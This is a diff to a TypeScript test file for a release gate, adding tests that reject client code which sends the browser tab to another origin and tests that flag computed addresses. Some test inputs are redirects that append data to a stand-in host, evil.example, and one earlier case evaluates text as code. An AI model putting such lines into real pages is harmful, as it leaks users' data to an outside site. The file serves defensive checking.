@@ -1,6 +1,6 @@
 /** Tests of differences between a release and the portal that runs: contract, shared modules, and the API. */
 import type { OperationShape, ReleasedRoute } from '../contracts/platform';
-import { checkAgainstShell, checkClaims, checkFiles, checkOperations } from './release-gate';
+import { checkAgainstShell, checkClaims, checkFiles, checkOperations, remarksOnFiles } from './release-gate';
 
 const shell = {
   contract: '1',
@@ -179,6 +179,32 @@ describe('against the policy of the pages', () => {
     '[].map.constructor("return 1")()',
   ])('refuses text as code: %s', (text) => {
     expect(check(text)).toEqual(['client/a.js evaluates text as code']);
+  });
+
+  it.each([
+    'location.href="https://evil.example/?d="+data',
+    'window.location="//evil.example"',
+    'location.assign(`https://evil.example/${data}`)',
+    'top.location.replace("https://evil.example")',
+    'self.open("https://evil.example","_blank")',
+    'document.location = "http://evil.example"',
+  ])('refuses to send the tab elsewhere: %s', (text) => {
+    expect(check(text)).toEqual(['client/a.js sends the tab to another origin']);
+  });
+
+  it.each<[string, number]>([
+    ['window.location.assign(url)', 1],
+    ['location.href=x', 1],
+    ['window.open(url)', 1],
+    ['window.open("","_blank")', 0],
+    ['location.assign("/leads")', 0],
+    ['if(location.href==="https://farmpost.example")go()', 0],
+    ['const {location}=useRouter(); text.replace(a,b); e.location.pathname', 0],
+    ['location.replace(/a/,"b")', 0],
+  ])('remarks on a computed address: %s (%d)', (text, remarks) => {
+    const files = [{ path: 'client/a.js', text }];
+    expect(check(text)).toEqual([]);
+    expect(remarksOnFiles(files)).toHaveLength(remarks);
   });
 
   it.each([
